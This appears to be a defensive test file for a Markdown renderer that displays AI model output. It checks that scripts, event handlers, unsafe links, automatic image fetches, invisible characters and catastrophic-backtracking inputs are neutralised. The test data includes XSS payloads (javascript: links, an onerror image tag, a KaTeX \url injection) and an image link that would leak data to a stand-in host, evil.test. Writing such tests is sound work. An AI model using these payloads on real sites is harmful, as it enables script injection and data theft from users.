// What a model writes can neither run, nor fetch, nor hide, nor hang the page.
import { readFileSync, existsSync } from "node:fs";
import { join } from "node:path";
import { render, waitFor } from "@testing-library/react";
import { startI18n } from "@/lib/i18n";
import { Markdown } from "./Markdown";
import { withoutHalfRow } from "./split";

beforeAll(async () => {
  await startI18n();
  const { container, unmount } = render(<Markdown text="$$x$$" />);
  await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull(), { timeout: 10_000 });
  unmount();
}, 15_000);

const FORBIDDEN = "script,style:not(.katex *),iframe,object,embed,form,base,meta,link,video,audio,source,picture,svg script,foreignObject,img[src]";

function show(text: string): HTMLElement {
  return render(<Markdown text={text} />).container;
}

function expectHarmless(root: HTMLElement, payload: string): void {
  expect(root.querySelector(FORBIDDEN), payload).toBeNull();
  for (const element of root.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name.startsWith("on"), `${payload}: ${name}`).toBe(false);
      if (name === "href" || name === "src") expect(value, payload).toMatch(/^(https?:\/\/|mailto:)/);
      if (name === "target") expect(element.getAttribute("rel"), payload).toBe("noopener noreferrer");
    }
  }
  expect((window as { __xss?: unknown }).__xss).toBeUndefined();
}

const corpus = [join(process.cwd(), "../tests/security/corpora/markdown_xss.txt"), join(process.cwd(), "src/components/markdown/attacks.txt")].find(existsSync);
const lines = corpus ? readFileSync(corpus, "utf8").split("\n").filter((line) => line && !line.startsWith("# ")) : [];
const unescaped = (line: string): string =>
  line.replaceAll("\\n", "\n").replaceAll("\\t", "\t").replace(/\\u\{([0-9a-fA-F]+)\}/g, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)));

describe("hostile text", () => {
  it.each(lines)("is harmless: %s", (line) => {
    expectHarmless(show(unescaped(line)), line);
  });

  it("is harmless after every letter while it streams", () => {
    const text = unescaped("[x](javascript:window.__xss=1) <img src=x onerror=window.__xss=1> ![a](https://evil.test/leak?d=1)");
    for (let end = 1; end <= text.length; end += 1) expectHarmless(show(text.slice(0, end)), text.slice(0, end));
  });

  it.each([["emphasis", "*".repeat(100_000)], ["links", "[".repeat(50_000)], ["quotes", ">".repeat(10_000)], ["spaced quotes", "> ".repeat(10_000)], ["mixed", "*a _b [c ".repeat(20_000)], ["backticks", "` ".repeat(50_000)]])("does not hang on %s", (_, text) => {
    const begun = performance.now();
    expectHarmless(show(text), text.slice(0, 20));
    expect(performance.now() - begun).toBeLessThan(1500);
  });

  it("cannot hide instructions in invisible letters", () => {
    expect(show("a\u202egnp.exe\u202c \u{e0041}\u200bb").textContent).toBe("agnp.exe b");
  });
});

describe("links and pictures", () => {
  it("show the host a link really leads to", () => {
    expect(show("[https://good.test](https://evil.test/)").textContent).toContain("(evil.test)");
    expect(show("https://good.test@evil.test/").textContent).toContain("(evil.test)");
    expect(show("https://g\u043e\u043ed.test/").textContent).toContain("(xn--");
  });

  it("do not repeat a host that is already said", () => {
    expect(show("<https://example.org/a>").textContent).toBe("https://example.org/a");
  });

  it("never fetch a picture by themselves", () => {
    const root = show("![chart](https://evil.test/leak?d=SECRET)");
    expect(root.querySelector("img")).toBeNull();
    expect(root.textContent).toContain("chart");
  });

  it("do not lead into this very site", () => {
    expect(show("[x](/api/v1/logout)").querySelector("a")).toBeNull();
  });
});

describe("formulas, code and tables", () => {
  it("draws formulas without obeying commands in them", async () => {
    const root = show("$$\\url{javascript:window.__xss=1}$$ and \\(x^2\\)");
    await waitFor(() => expect(root.querySelector(".katex")).not.toBeNull(), { timeout: 5000 });
    expectHarmless(root, "katex");
  });

  it("leaves prices alone", () => {
    expect(show("It costs $5 today and $10 tomorrow.").querySelector(".katex")).toBeNull();
  });

  it("shows code as text, with its language", () => {
    const root = show("```python\nprint('<b>')\n```");
    expect(root.querySelector("pre")?.textContent).toBe("print('<b>')");
    expect(root.textContent).toContain("python");
  });
});

describe("withoutHalfRow", () => {
  it("holds the row of a table back until it is whole", () => {
    expect(withoutHalfRow("| a | b")).toBe("");
    expect(withoutHalfRow("| a | b |\n|--")).toBe("");
    expect(withoutHalfRow("| a | b |\n|---|---|\n| 1")).toBe("| a | b |\n|---|---|");
    expect(withoutHalfRow("So:\n| a | b |\n|---|---|\n| 1 | 2 |\n| 3")).toBe("So:\n| a | b |\n|---|---|\n| 1 | 2 |");
  });

  it("leaves everything else, and very long rows, as they come", () => {
    expect(withoutHalfRow("words | more")).toBe("words | more");
    const long = `| ${"a".repeat(200)}`;
    expect(withoutHalfRow(long)).toBe(long);
  });
});
